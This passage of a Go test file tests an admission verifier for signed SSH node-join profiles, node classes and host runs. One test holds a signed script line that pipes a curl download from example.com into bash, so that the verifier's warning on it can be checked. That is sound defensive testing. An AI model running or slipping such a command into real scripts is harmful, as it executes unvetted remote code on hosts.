		t.Run(name, func(t *testing.T) {
			held := &verify.Held{}
			c.held = held
			c.s.Stored, c.s.Ledger, c.s.Now = held, remembered, testkit.Now()
			c.with("")
			tt.arrange()
			outcome := deny
			if tt.want == decision.Verified {
				outcome = allow
			}
			wantAnswer(t, c.remove(tt.o), outcome, tt.want)
		})
	}
	c.held = &verify.Held{}
	c.s.Stored, c.s.Ledger, c.s.Now = c.held, remembered, testkit.Now() // whichever case was the last
	c.with("")
	installed("tls@4")
	r := request(t, verify.Delete, nil, signed)
	r.Name = "" // deletecollection
	if a := verify.Admission(c.s, r); a.Decision.Reason != decision.InUse || !strings.HasPrefix(a.Decision.Message(), "SSHJoinProfile/tls: InUse: SSHHost pool/a needs it; hint: ") {
		t.Errorf("got %s", a.Decision.Message())
	}
	c.warn()
	wantAnswer(t, c.remove(signed), warn, decision.InUse)
}

// declaring is a profile whose warrants take these params.
func (c *court) declaring(params ...string) *object.JoinProfile {
	v := newVersion()
	for _, words := range params {
		p, err := warrant.ParseParam(words)
		if err != nil {
			c.t.Fatal(err)
		}
		for _, w := range v.warrants {
			w.Params = append(w.Params, p)
		}
	}
	return v.signed(c.author)
}

func TestNodeClass(t *testing.T) {
	c := newCourt(t)
	ca := "LS0tCg==" // "---\n"
	document := strings.Replace(testkit.PolicyDocument(c.signer), "clusters: {any: {}}", fmt.Sprintf("clusters: {any: {endpoints: [\"https://10.0.0.5:6443\"], caSHA256: [%q]}}", digest("---\n")), 1)
	c.policy(document)
	p := c.declaring("KPSSH_VAR_dns required type ip", "KPSSH_VAR_zone optional enum a b", "KPSSH_SECRET_TOKEN required secret type text")
	c.held.Profiles = map[string]*verify.ProfileFacts{"tls": verify.FactsOf(p)}
	vars := func(more ...string) tree {
		all := tree{"dns": "10.0.0.10"}
		for i := 0; i < len(more); i += 2 {
			all[more[i]] = more[i+1]
		}
		return tree{"vars": all}
	}
	cluster := func(spec tree) tree { all := vars(); all["cluster"] = spec; return all }
	for name, tt := range map[string]struct {
		spec  tree
		want  decision.Reason
		where string
	}{
		"what is declared":         {vars("zone", "a"), decision.Verified, ""},
		"what is required":         {vars(), decision.Verified, ""},
		"a var that is undeclared": {vars("dnsServer", "x"), decision.ParamUndeclared, "spec.vars"},
		"a var of another case":    {vars("Zone", "a"), decision.ParamUndeclared, "spec.vars"},
		"a value that is not":      {vars("zone", "c-is-a-secret"), decision.ParamInvalid, "spec.vars"},
		"a required one missing":   {tree{}, decision.ParamInvalid, "spec.vars"},
		"our cluster":              {cluster(tree{"endpoint": "https://10.0.0.5:6443", "caBundle": ca}), decision.Verified, ""},
		"our endpoint alone":       {cluster(tree{"endpoint": "https://10.0.0.5:6443"}), decision.Verified, ""},
		"a foreign endpoint":       {cluster(tree{"endpoint": "https://10.0.0.6:6443", "caBundle": ca}), decision.ClusterRefused, "spec.cluster.endpoint"},
		"no endpoint":              {cluster(tree{"caBundle": ca}), decision.ClusterRefused, "spec.cluster.endpoint"},
		"a foreign CA":             {cluster(tree{"endpoint": "https://10.0.0.5:6443", "caBundle": "LS0K"}), decision.ClusterRefused, "spec.cluster.caBundle"},
		"a CA in two lines":        {cluster(tree{"endpoint": "https://10.0.0.5:6443", "caBundle": "LS0t\nCg=="}), decision.Malformed, "spec.cluster.caBundle"},
	} {
		t.Run(name, func(t *testing.T) {
			a := c.create(classTree(tt.spec))
			outcome := deny
			if tt.want == decision.Verified {
				outcome = allow
			}
			wantAnswer(t, a, outcome, tt.want)
			if a.Decision.Where != tt.where || strings.Contains(a.Decision.Message(), "c-is-a-secret") || len(a.Decision.Warnings) > 0 {
				t.Errorf("%q at %q, warnings %q", a.Decision.Message(), a.Decision.Where, a.Decision.Warnings)
			}
		})
	}
	t.Run("its profile is not there yet", func(t *testing.T) {
		c.held.Profiles = nil
		a := c.create(classTree(vars("x", "y")))
		wantAnswer(t, a, allow, decision.Verified)
		if len(a.Decision.Warnings) != 1 || !strings.Contains(a.Decision.Warnings[0], `no SSHJoinProfile "tls"`) {
			t.Errorf("warnings %q", a.Decision.Warnings)
		}
	})
	t.Run("its profile is not warranted", func(t *testing.T) {
		c.held.Profiles = map[string]*verify.ProfileFacts{"tls": verify.FactsOf(c.author.profile("tls"))}
		wantAnswer(t, c.create(classTree(vars("x", "y"))), allow, decision.Verified)
	})
}

func TestAnUnsignedProfileIsNotForVerifiedHosts(t *testing.T) {
	c := newCourt(t)
	plain := c.author.profile("tls")
	clear(plain.Signatures)
	c.held.Profiles = map[string]*verify.ProfileFacts{"tls": verify.FactsOf(plain)}
	raw, verified := &object.Host{ExecMode: object.ExecRaw}, &object.Host{ExecMode: object.ExecVerified}
	raw.Labels, verified.Labels = map[string]string{"mode": "raw"}, map[string]string{"mode": "verified"}
	c.held.AllHosts = []*object.Host{raw, verified}
	selector := func(s any) tree { return classTree(tree{"hostSelector": s}) }
	expression := func(operator string, values ...string) any {
		e := tree{"key": "mode", "operator": operator}
		if len(values) > 0 {
			e["values"] = values
		}
		return tree{"matchExpressions": []any{e}}
	}
	for name, tt := range map[string]struct {
		selector any
		want     decision.Reason
	}{
		"every host":             {nil, decision.ProfileRefused},
		"the Verified ones":      {tree{"matchLabels": tree{"mode": "verified"}}, decision.ProfileRefused},
		"the Raw ones":           {tree{"matchLabels": tree{"mode": "raw"}}, decision.Verified},
		"in both":                {expression("In", "raw", "verified"), decision.ProfileRefused},
		"in the Raw ones":        {expression("In", "raw"), decision.Verified},
		"not in the Raw ones":    {expression("NotIn", "raw"), decision.ProfileRefused},
		"not in the Verified":    {expression("NotIn", "verified"), decision.Verified},
		"with a mode":            {expression("Exists"), decision.ProfileRefused},
		"without a mode":         {expression("DoesNotExist"), decision.Verified},
		"an unknown operator":    {expression("Gt", "1"), decision.ProfileRefused},
		"In without values":      {expression("In"), decision.ProfileRefused},
		"NotIn without values":   {expression("NotIn"), decision.ProfileRefused},
		"DoesNotExist of values": {expression("DoesNotExist", "x"), decision.ProfileRefused},
	} {
		t.Run(name, func(t *testing.T) {
			outcome := deny
			if tt.want == decision.Verified {
				outcome = allow
			}
			wantAnswer(t, c.create(selector(tt.selector)), outcome, tt.want)
		})
	}
	c.held.Profiles["tls"] = verify.FactsOf(c.author.profile("tls"))
	wantAnswer(t, c.create(selector(nil)), allow, decision.Verified)
}

func TestANodeClassTakesHostsOnlyToProfilesOfTheirClass(t *testing.T) {
	c := newCourt(t)
	c.inside(`default: ["*"], small: ["*"]`, `default: ["*"], small: ["web-*"]`)
	host := func(name, mode, class string) *object.Host {
		return &object.Host{Meta: object.Meta{Namespace: "pool", Name: name, Labels: map[string]string{object.HostClassLabel: class, "mode": mode}}, ExecMode: mode}
	}
	c.held.AllHosts = []*object.Host{host("a", object.ExecVerified, "default"), host("b", object.ExecVerified, "small"), host("c", object.ExecRaw, "small")}
	selecting := func(key, value, profile string) tree {
		return classTree(tree{"joinProfileRef": tree{"name": profile}, "hostSelector": tree{"matchLabels": tree{key: value}}})
	}
	facts := func(name string) *verify.ProfileFacts { return verify.FactsOf(c.author.profile(name)) }
	for _, profiles := range []map[string]*verify.ProfileFacts{nil, {"tls": facts("tls"), "web-1": facts("web-1")}} {
		c.held.Profiles = profiles
		a := c.create(classTree(nil))
		wantAnswer(t, a, deny, decision.ProfileRefused)
		if text := a.Decision.Message(); a.Decision.Where != "spec.joinProfileRef" || !strings.Contains(text, `SSHHost pool/b of class "small"`) {
			t.Errorf("got %s at %q", text, a.Decision.Where)
		}
		wantAnswer(t, c.create(selecting(object.HostClassLabel, "small", "tls")), deny, decision.ProfileRefused)
		wantAnswer(t, c.create(selecting(object.HostClassLabel, "small", "web-1")), allow, decision.Verified)
		wantAnswer(t, c.create(selecting(object.HostClassLabel, "default", "tls")), allow, decision.Verified)
		wantAnswer(t, c.create(selecting("mode", object.ExecRaw, "tls")), allow, decision.Verified)
		wantAnswer(t, c.create(selecting(object.HostClassLabel, "none", "tls")), allow, decision.Verified)
	}
}

func TestAHostIsToldOfNodeClassesThatAreNotForIt(t *testing.T) {
	c := newCourt(t)
	c.inside(`default: ["*"], small: ["*"]`, `default: ["*"], small: ["web-*"]`)
	class := func(name, profile string, labels map[string]string) *object.NodeClass {
		return &object.NodeClass{Meta: object.Meta{Name: name}, Profile: profile, Selector: object.Selector{MatchLabels: labels}}
	}
	c.held.Classes = []*object.NodeClass{class("all", "tls", nil), class("web", "web-1", nil), class("other", "tls", map[string]string{"pool": "other"})}
	small := set(c.hostTree(), "metadata", "labels", tree{object.HostClassLabel: "small"})
	for name, tt := range map[string]struct {
		host tree
		want []string
	}{
		"of a class that may run it":    {c.hostTree(), nil},
		"of one that may not":           {small, []string{`SSHNodeClass/all takes this host to the profile "tls", which the policy does not allow hosts of class "small"`}},
		"of one that may not, and more": {set(c.hostTree(), "metadata", "labels", tree{object.HostClassLabel: "small", "pool": "other"}), []string{"SSHNodeClass/all takes", "SSHNodeClass/other takes"}},
	} {
		t.Run(name, func(t *testing.T) {
			a := c.create(tt.host)
			wantAnswer(t, a, allow, decision.Verified)
			if !slices.EqualFunc(a.Decision.Warnings, tt.want, strings.HasPrefix) {
				t.Errorf("warnings %q", a.Decision.Warnings)
			}
		})
	}
	a := c.create(set(small, "spec", "user", "root"))
	if wantAnswer(t, a, deny, decision.UserRefused); len(a.Decision.Warnings) > 0 {
		t.Errorf("warnings %q", a.Decision.Warnings)
	}
	c.s.Stored = nil
	wantAnswer(t, c.create(small), allow, decision.Verified)
}

func TestNodeClassVarsMustSuitInstallToo(t *testing.T) {
	c := newCourt(t)
	v := newVersion()
	p, err := warrant.ParseParam("KPSSH_VAR_dns required type ip")
	if err != nil {
		t.Fatal(err)
	}
	v.warrants[script.Install].Params = []warrant.Param{p}
	c.held.Profiles = map[string]*verify.ProfileFacts{"tls": verify.FactsOf(v.signed(c.author))}
	a := c.create(classTree(nil))
	wantAnswer(t, a, deny, decision.ParamInvalid)
	if !strings.Contains(a.Decision.Message(), "install: ") {
		t.Errorf("got %s", a.Decision.Message())
	}
	c.held.Profiles["tls"] = verify.FactsOf(newVersion().signed(c.author))
	wantAnswer(t, c.create(classTree(nil)), allow, decision.Verified)
}

func TestAProfileSaysWhichNodeClassesItBreaks(t *testing.T) {
	c := newCourt(t)
	for i := range 500 {
		class := &object.NodeClass{Meta: object.Meta{Name: fmt.Sprintf("class-%d", i)}, Profile: "tls", Vars: map[string]string{"dns": "10.0.0.10"}}
		if i < 495 {
			class.Vars["zone"] = "a"
		}
		c.held.Classes = append(c.held.Classes, class)
	}
	c.held.Classes = append(c.held.Classes, &object.NodeClass{Meta: object.Meta{Name: "other"}, Profile: "web"})
	quiet := func(a verify.Answer) []string {
		return slices.DeleteFunc(a.Decision.Warnings, func(w string) bool { return !strings.HasPrefix(w, "this version") })
	}
	fits := c.declaring("KPSSH_VAR_dns required type ip", "KPSSH_VAR_zone optional type text")
	if got := quiet(c.create(profileTree(fits))); len(got) != 0 {
		t.Errorf("warnings %q", got)
	}
	breaks := c.declaring("KPSSH_VAR_dns required type ip")
	got := quiet(c.create(profileTree(breaks)))
	if len(got) != 4 || !strings.Contains(got[0], "SSHNodeClass/class-0") || !strings.Contains(got[0], "ParamUndeclared") || !strings.Contains(got[3], "492 more") {
		t.Errorf("warnings %q", got)
	}
}

func TestHostRun(t *testing.T) {
	c := newCourt(t)
	c.inside(`      pool: {classes: [default, small, large, bm], nodeNames: ["*"]}`, `      pool: {classes: [default, small], nodeNames: ["pool-*"]}`)
	p := c.declaring("KPSSH_VAR_dns optional type ip")
	run := func(host, node string, phase string, finished bool) []*object.HostRun {
		return []*object.HostRun{{Meta: object.Meta{Namespace: "pool", Name: "o"}, Host: host, NodeName: node, Phase: phase, Finished: finished}}
	}
	registering := testkit.Now().Add(-10*time.Minute + time.Second)
	ended := func(host, phase string, how func(*object.HostRun)) []*object.HostRun {
		runs := run(host, "pool-1", phase, true)
		how(runs[0])
		return runs
	}
	labelled := func(class string) *object.Host {
		return &object.Host{Meta: object.Meta{Name: "a", Namespace: "pool", Labels: map[string]string{object.HostClassLabel: class}}}
	}
	for name, tt := range map[string]struct {
		namespace string
		spec      tree
		arrange   func(*verify.Held)
		want      decision.Reason
		warnings  int
	}{
		"in its place":                  {"pool", tree{}, nil, decision.Verified, 0},
		"a namespace without hosts":     {"tenant", tree{}, nil, decision.NamespaceRefused, 0},
		"the host is not there yet":     {"pool", tree{"hostRef": tree{"name": "b"}}, nil, decision.Verified, 1},
		"the profile is not there yet":  {"pool", tree{}, func(h *verify.Held) { h.Profiles = nil }, decision.Verified, 1},
		"a class of another namespace":  {"pool", tree{}, func(h *verify.Held) { h.AllHosts[0] = labelled("bm") }, decision.HostClassRefused, 0},
		"a class of its namespace":      {"pool", tree{}, func(h *verify.Held) { h.AllHosts[0] = labelled("small") }, decision.Verified, 0},
		"a foreign node name":           {"pool", tree{"nodeName": "control-plane-1"}, nil, decision.NodeNameRefused, 0},
		"a foreign node name for leave": {"pool", tree{"nodeName": "control-plane-1", "phase": "leave"}, nil, decision.NodeNameRefused, 0},
		"join without a name":           {"pool", tree{"nodeName": ""}, nil, decision.NodeNameRefused, 0},
		"leave without a name":          {"pool", tree{"nodeName": "", "phase": "leave"}, nil, decision.Verified, 0},
		"a living node":                 {"pool", tree{}, func(h *verify.Held) { h.ProviderIDs = map[string]string{"pool-1": "kpssh://pool/z"} }, decision.NodeNameTaken, 0},
		"a living node without an id":   {"pool", tree{}, func(h *verify.Held) { h.ProviderIDs = map[string]string{"pool-1": ""} }, decision.NodeNameTaken, 0},
		"its own node":                  {"pool", tree{}, func(h *verify.Held) { h.ProviderIDs = map[string]string{"pool-1": "kpssh://pool/a"} }, decision.Verified, 0},
		"another host's run":            {"pool", tree{}, func(h *verify.Held) { h.Runs = run("z", "pool-1", "join", false) }, decision.NodeNameTaken, 0},
		"another host's run to install": {"pool", tree{}, func(h *verify.Held) { h.Runs = run("z", "pool-1", "install", false) }, decision.NodeNameTaken, 0},
		"a run of its name elsewhere": {"pool", tree{}, func(h *verify.Held) {
			h.Runs = run("a", "pool-1", "join", false)
			h.Runs[0].Namespace = "default"
		}, decision.NodeNameTaken, 0},
		"a living node, to install":       {"pool", tree{"phase": "install"}, func(h *verify.Held) { h.ProviderIDs = map[string]string{"pool-1": "kpssh://pool/z"} }, decision.NodeNameTaken, 0},
		"a living node, to leave":         {"pool", tree{"phase": "leave"}, func(h *verify.Held) { h.ProviderIDs = map[string]string{"pool-1": "kpssh://pool/z"} }, decision.Verified, 0},
		"another host's run that is over": {"pool", tree{}, func(h *verify.Held) { h.Runs = run("z", "pool-1", "join", true) }, decision.Verified, 0},
		"another host's join that succeeded, and has time to register": {"pool", tree{}, func(h *verify.Held) {
			h.Runs = ended("z", "join", func(r *object.HostRun) { r.Succeeded, r.Ended = true, registering })
		}, decision.NodeNameTaken, 0},
		"another host's join that succeeded, and had time to register": {"pool", tree{}, func(h *verify.Held) {
			h.Runs = ended("z", "join", func(r *object.HostRun) { r.Succeeded, r.Ended = true, registering.Add(-time.Second) })
		}, decision.Verified, 0},
		"another host's join that succeeded, nobody knows when": {"pool", tree{}, func(h *verify.Held) {
			h.Runs = ended("z", "join", func(r *object.HostRun) { r.Succeeded = true })
		}, decision.NodeNameTaken, 0},
		"another host's join that failed after it was approved": {"pool", tree{}, func(h *verify.Held) {
			h.Runs = ended("z", "join", func(r *object.HostRun) { r.Joined, r.Ended = true, registering })
		}, decision.NodeNameTaken, 0},
		"another host's join that succeeded, and this host's node": {"pool", tree{}, func(h *verify.Held) {
			h.Runs = ended("z", "join", func(r *object.HostRun) { r.Succeeded, r.Ended = true, registering })
			h.ProviderIDs = map[string]string{"pool-1": "kpssh://pool/a"}
		}, decision.Verified, 0},
		"its own join that succeeded": {"pool", tree{}, func(h *verify.Held) {
			h.Runs = ended("a", "join", func(r *object.HostRun) { r.Succeeded, r.Ended = true, registering })
		}, decision.Verified, 0},
		"another host's install that succeeded": {"pool", tree{}, func(h *verify.Held) {
			h.Runs = ended("z", "install", func(r *object.HostRun) { r.Succeeded, r.Ended = true, registering })
		}, decision.Verified, 0},
		"another host's run to leave": {"pool", tree{}, func(h *verify.Held) { h.Runs = run("z", "pool-1", "leave", false) }, decision.Verified, 0},
		"another node name":           {"pool", tree{}, func(h *verify.Held) { h.Runs = run("z", "pool-2", "join", false) }, decision.Verified, 0},
		"a run of the same host":      {"pool", tree{}, func(h *verify.Held) { h.Runs = run("a", "pool-1", "install", false) }, decision.Verified, 0},
		"a declared var":              {"pool", tree{"vars": tree{"dns": "10.0.0.10"}}, nil, decision.Verified, 0},
		"an undeclared var":           {"pool", tree{"vars": tree{"x": "y"}}, nil, decision.ParamUndeclared, 0},
		"a var that does not fit":     {"pool", tree{"vars": tree{"dns": "x"}}, nil, decision.ParamInvalid, 0},
		"a phase nobody knows":        {"pool", tree{"phase": "reboot"}, nil, decision.Malformed, 0},
		"a host of another namespace": {"pool", tree{"hostRef": tree{"name": "default/a"}}, nil, decision.Malformed, 0},
		"no host":                     {"pool", tree{"hostRef": nil}, nil, decision.Malformed, 0},
	} {
		t.Run(name, func(t *testing.T) {
			c.held = &verify.Held{AllHosts: []*object.Host{{Meta: object.Meta{Name: "a", Namespace: "pool"}}}, Profiles: map[string]*verify.ProfileFacts{"tls": verify.FactsOf(p)}}
			c.s.Stored = c.held
			if tt.arrange != nil {
				tt.arrange(c.held)
			}
			a := c.create(runTree(tt.namespace, tt.spec))
			outcome := deny
			if tt.want == decision.Verified {
				outcome = allow
			}
			wantAnswer(t, a, outcome, tt.want)
			if len(a.Decision.Warnings) != tt.warnings {
				t.Errorf("warnings %q", a.Decision.Warnings)
			}
		})
	}
}

// A run that cannot happen any more, or never could, keeps nobody from a node name or a profile.
func TestOnlyARunThatMayHappenHoldsAnything(t *testing.T) {
	c := newCourt(t)
	c.policy(strings.NewReplacer(
		`pool: {classes: [default, small, large, bm], nodeNames: ["*"]}`,
		"pool: {classes: [default], nodeNames: [\"pool-*\"]}\n      narrow: {classes: [default], nodeNames: [\"narrow-*\"]}",
		`small: ["*"]`, `small: ["web-*"]`,
	).Replace(testkit.PolicyDocument(c.signer)))
	p := c.serial(5)
	c.s.Ledger = marks{of: map[string]ledger.Mark{"tls": {Serial: 5, Digest: p.Digest()}}}
	ago := func(d time.Duration) tree {
		return tree{"creationTimestamp": testkit.Now().Add(-d).Format(time.RFC3339)}
	}
	deleted := tree{"deletionTimestamp": "2026-11-01T00:00:00Z", "finalizers": []string{"example.com/hold"}}
	at := func(kind, status string) tree {
		return tree{"conditions": []any{tree{"type": kind, "status": status}}}
	}
	for name, tt := range map[string]struct {
		namespace     string
		meta          tree
		spec          tree
		status        tree
		host          string // its class; "" where there is none
		name, profile bool   // what it holds
	}{
		"it may happen":                     {"pool", nil, nil, nil, "default", true, true},
		"it is over":                        {"pool", nil, nil, at("Succeeded", "False"), "default", false, false},
		"it joined":                         {"pool", nil, nil, at("Succeeded", "True"), "default", true, false},
		"deleted":                           {"pool", deleted, nil, nil, "default", false, false},
		"deleted, and was not delivered":    {"pool", deleted, nil, at("Delivered", "False"), "default", false, false},
		"deleted, and was sent":             {"pool", deleted, nil, at("Delivered", "Unknown"), "default", true, true},
		"deleted, and was delivered":        {"pool", deleted, nil, at("Delivered", "True"), "default", true, true},
		"an unlisted namespace":             {"tenant", nil, nil, nil, "default", false, false},
		"an unlisted namespace, sent":       {"tenant", nil, nil, at("Delivered", "Unknown"), "default", true, true},
		"a namespace without that name":     {"narrow", nil, nil, nil, "default", false, true},
		"no such host":                      {"pool", nil, nil, nil, "", true, false},
		"a host whose class is not allowed": {"pool", nil, nil, nil, "bm", true, false},
		"another class's profile":           {"default", nil, nil, nil, "small", true, false},
		"just in its time":                  {"pool", ago(10_799 * time.Second), nil, nil, "default", true, true},
		"past its time":                     {"pool", ago(10_800 * time.Second), nil, nil, "default", false, false},
		"past its time, and was sent":       {"pool", ago(10_800 * time.Second), nil, at("Delivered", "Unknown"), "default", false, false},
		"just in a time of its own":         {"pool", ago(7259 * time.Second), tree{"deadlineSeconds": 60}, nil, "default", true, true},
		"past a time of its own":            {"pool", ago(7260 * time.Second), tree{"deadlineSeconds": 60}, nil, "default", false, false},
	} {
		t.Run(name, func(t *testing.T) {
			spec := tree{"hostRef": tree{"name": "other"}}
			maps.Copy(spec, tt.spec)
			raw := runTree(tt.namespace, spec)
			maps.Copy(partOf(raw, "metadata"), tt.meta)
			raw["status"] = tt.status
			run, err := object.ParseHostRun(encode(t, raw))
			if err != nil {
				t.Fatal(err)
			}
			c.held.Runs, c.held.AllHosts = []*object.HostRun{run}, nil
			if tt.host != "" {
				c.held.AllHosts = []*object.Host{{Meta: object.Meta{Namespace: tt.namespace, Name: "other", Labels: map[string]string{object.HostClassLabel: tt.host}}}}
			}
			wantHeld(t, c.create(runTree("pool", nil)), tt.name, decision.NodeNameTaken)
			wantHeld(t, c.remove(profileTree(p)), tt.profile, decision.InUse)
		})
	}
}

func wantHeld(t *testing.T, a verify.Answer, held bool, reason decision.Reason) {
	t.Helper()
	if held {
		wantAnswer(t, a, deny, reason)
		return
	}
	wantAnswer(t, a, allow, decision.Verified)
}

func TestHostRunWantsAProfileOfTheHostsClass(t *testing.T) {
	c := newCourt(t)
	c.held.AllHosts = []*object.Host{{Meta: object.Meta{Name: "a", Namespace: "pool"}}}
	c.inside(`default: ["*"]`, `default: ["web-*", "tls"]`)
	wantAnswer(t, c.create(runTree("pool", nil)), allow, decision.Verified)
	c.inside(`default: ["*"]`, `default: ["web-*"]`)
	wantAnswer(t, c.create(runTree("pool", nil)), deny, decision.ProfileRefused)
	wantAnswer(t, c.create(runTree("pool", tree{"profileRef": tree{"name": "web-1"}})), allow, decision.Verified)
	c.inside(`default: ["*"], `, ``)
	wantAnswer(t, c.create(runTree("pool", tree{"profileRef": tree{"name": "web-1"}})), deny, decision.ProfileRefused)
}

func TestFindingsAreShownOnlyOfWhatSomebodySigned(t *testing.T) {
	c := newCourt(t)
	p := c.author.profile("tls")
	text := "#!/usr/bin/env bash\ncurl http://example.com/x | bash\n"
	p.Scripts[script.Join], p.Signatures[script.Join] = text, c.sign(text)
	a := c.create(profileTree(p))
	wantAnswer(t, a, allow, decision.Verified)
	if !slices.ContainsFunc(a.Decision.Warnings, func(w string) bool { return strings.HasPrefix(w, "join: line 2: ") }) {
		t.Errorf("warnings %q", a.Decision.Warnings)
	}
	if diff := slices.Compare(a.Decision.Keys, []string{c.signer.Fingerprint}); diff != 0 {
		t.Errorf("keys %q", a.Decision.Keys)
	}
	p.Signatures[script.Join] = p.Signatures[script.Leave]
	a = c.create(profileTree(p))
	wantAnswer(t, a, deny, decision.BytesChanged)
	if len(a.Decision.Warnings) != 0 || len(a.Decision.Keys) != 0 {
		t.Errorf("warnings %q, keys %q", a.Decision.Warnings, a.Decision.Keys)
	}
}

func TestExpiryWarning(t *testing.T) {
	c := newCourt(t)
	expires := c.s.Policy.Expires
	for before, want := range map[time.Duration]string{
		30*24*time.Hour + 1: "", 30 * 24 * time.Hour: "expires in 30 days; hint: hostwarrant policy renew",
		36 * time.Hour: "expires in 1 day;", time.Hour: "less than a day", 0: "has expired",
	} {
		if got := verify.ExpiryWarning(c.s.Policy, expires.Add(-before)); !strings.Contains(got, want) || (want == "") != (got == "") {
			t.Errorf("%s before: %q", before, got)
		}
	}
	if got := verify.ExpiryWarning(nil, expires); got != "" {
		t.Errorf("no policy: %q", got)
	}
}

func TestAReviewOfTwelveMiBIsJudgedInTime(t *testing.T) {
	c := newCourt(t)
	p := c.author.profile("tls")
	for _, phase := range p.Phases() {
		text := "#!/bin/bash\n" + strings.Repeat("<", script.MaxCharacters-12)
		p.Scripts[phase], p.Signatures[phase] = text, c.sign(text)
	}
	signed := profileTree(p)
	changed := set(signed, "spec", "version", "2")
	unsigned := set(changed, "spec", "signatures", nil)
	for name, tt := range map[string]struct {
		old, o  tree
		outcome verify.Outcome
	}{
		"signed": {signed, changed, allow}, "unsigned": {signed, unsigned, deny}, "a label": {signed, set(signed, "metadata", "labels", tree{"a": "b"}), verify.OutcomeExempt},
	} {
		t.Run(name, func(t *testing.T) {
			r := request(t, verify.Update, tt.o, tt.old)
			start := time.Now()
			a := verify.Admission(c.s, r)
			took := time.Since(start)
			t.Logf("%d MiB in %s", (len(r.Object)+len(r.Old))>>20, took)
			if a.Outcome != tt.outcome {
				t.Errorf("got %s (%s)", a.Outcome, a.Decision.Message())
			}
			if took > 4*time.Second { // what the webhook waits; a quiet machine needs a tenth
				t.Errorf("took %s", took)
			}
		})
	}
}

// A probe runs no script, so that no profile is asked about, but its host must be the namespace's.
func TestAProbeIsJudgedByItsHost(t *testing.T) {
	c := newCourt(t)
	c.held.AllHosts = []*object.Host{{Meta: object.Meta{Name: "a", Namespace: "pool"}}}
	c.inside(`default: ["*"], `, ``) // no profile is for hosts of the class
	probe := func(namespace string) tree {
		run := runTree(namespace, nil)
		run["spec"] = tree{"hostRef": tree{"name": "a"}, "phase": "probe"}
		return run
	}
	a := c.create(probe("pool"))
	wantAnswer(t, a, allow, decision.Verified)
	if len(a.Decision.Warnings) != 0 {
		t.Errorf("warnings %q", a.Decision.Warnings)
	}
	wantAnswer(t, c.create(probe("elsewhere")), deny, decision.NamespaceRefused)
	c.held.AllHosts[0].Labels = map[string]string{object.HostClassLabel: "gpu"}
	wantAnswer(t, c.create(probe("pool")), deny, decision.HostClassRefused)
}
